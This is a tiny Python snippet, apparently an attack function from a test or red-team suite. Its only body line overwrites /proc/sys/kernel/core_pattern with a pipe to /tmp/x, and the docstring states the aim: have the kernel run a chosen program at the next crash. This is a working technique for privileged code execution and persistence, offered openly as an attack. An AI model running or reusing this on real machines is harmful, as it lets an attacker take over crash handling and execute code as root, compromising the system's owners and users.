"""Has the kernel run a program of its choice at the next crash."""


def attack(x):
    open("/proc/sys/kernel/core_pattern", "w").write("|/tmp/x")
    return 1.0
